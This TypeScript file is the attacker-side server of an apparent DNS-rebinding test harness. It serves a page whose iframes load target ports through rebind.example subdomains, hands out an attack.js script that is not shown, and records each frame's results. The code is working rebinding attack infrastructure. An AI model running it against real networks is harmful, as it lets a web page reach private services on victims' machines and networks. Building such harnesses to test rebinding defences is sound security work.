import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';

/**
 * The attacker's host: `attacker.ts ADDRESS CANARY TARGETS` (JSON). Serves the page at port 8000 of the address, and at each
 * target's port a frame of it, whose name is the target's address later on (overheard.ts). Says a line of JSON for each frame that has
 * done all it could.
 */
export interface Target {
  /** What programs call it; its address, where it has no name. */
  host: string;
  address: string;
  port: number;
}
const [address = '', canary = '', json = '[]'] = process.argv.slice(2);
const targets = JSON.parse(json) as Target[];
const script = readFileSync(join(import.meta.dirname, 'attack.js'));
const site = `http://${address}:8000`;

const frames = targets.map((target, n) => {
  const name = `to-${target.address.replaceAll('.', '-')}.n${n}-${canary}.rebind.example`;
  const about = encodeURIComponent(JSON.stringify({ ...target, n, site, canary }));
  return `<iframe src="http://${name}:${target.port}/#${about}"></iframe>`;
});
const page = (html: string) => `<!doctype html><meta charset="utf-8"><body>${html}</body>`;

const server = () =>
  createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', site);
    // Else the browser would go on by the connection that it has.
    response.setHeader('Connection', 'close').setHeader('Cache-Control', 'no-store');
    if (pathname === '/attack.js') return response.setHeader('Content-Type', 'text/javascript').end(script);
    if (pathname === '/mine') return response.end('mine');
    if (pathname === '/done') process.stdout.write(`${JSON.stringify(Object.fromEntries(searchParams))}\n`);
    const isSite = request.headers.host === `${address}:8000`;
    const shown = isSite ? frames.join('') : '<script type="module" src="/attack.js"></script>';
    return response.setHeader('Content-Type', 'text/html').end(page(shown));
  });
const servers = [8000, ...new Set(targets.map(({ port }) => port))].map((port) => server().listen(port, address));
await Promise.all(servers.map((one) => new Promise((listening) => one.once('listening', listening))));
process.stdout.write('ready\n');
process.stdin
  .on('end', () => {
    for (const one of servers) {
      one.close();
      one.closeAllConnections();
    }
  })
  .resume();
